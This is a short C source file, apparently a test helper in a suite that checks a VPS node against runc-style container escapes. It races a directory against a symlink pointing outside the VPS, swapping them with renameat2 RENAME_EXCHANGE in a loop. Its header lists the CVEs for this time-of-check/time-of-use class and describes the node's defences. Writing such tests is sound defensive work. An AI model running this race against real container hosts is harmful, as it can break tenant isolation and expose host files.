/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Class: a name of the VPS's is exchanged between the moment the node looks at it and the moment it
 * uses it (runc CVE-2021-30465, CVE-2019-19921, CVE-2025-31133, CVE-2025-52565): here a directory and
 * a symlink out of the VPS change places for ever.
 * Wall: what the node opens below a root it opens by descriptors without following links, or from a
 * process whose root directory is the VPS's; and what it writes it writes with the VPS's ids.
 * Usage: race DIRECTORY TARGET: DIRECTORY becomes now itself, now a link to TARGET; ends with its input
 */
#include "escape.h"

#include <linux/fs.h>
#include <poll.h>

int main(int argc, char **argv)
{
	char link[300];
	long n = 0;

	if (argc < 3)
		return 2;
	snprintf(link, sizeof(link), "%s.escape", argv[1]);
	unlink(link);
	if (symlink(argv[2], link) < 0)
		return 2;
	printf("racing\n");
	fflush(stdout);
	for (;;) {
		struct pollfd p = { .fd = 0, .events = POLLIN };

		for (int i = 0; i < 1000; i++, n++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, link,
				    RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 2;
			}
		if (poll(&p, 1, 0) > 0)
			break;
	}
	printf("%ld exchanges\n", n);
	return 0;
}
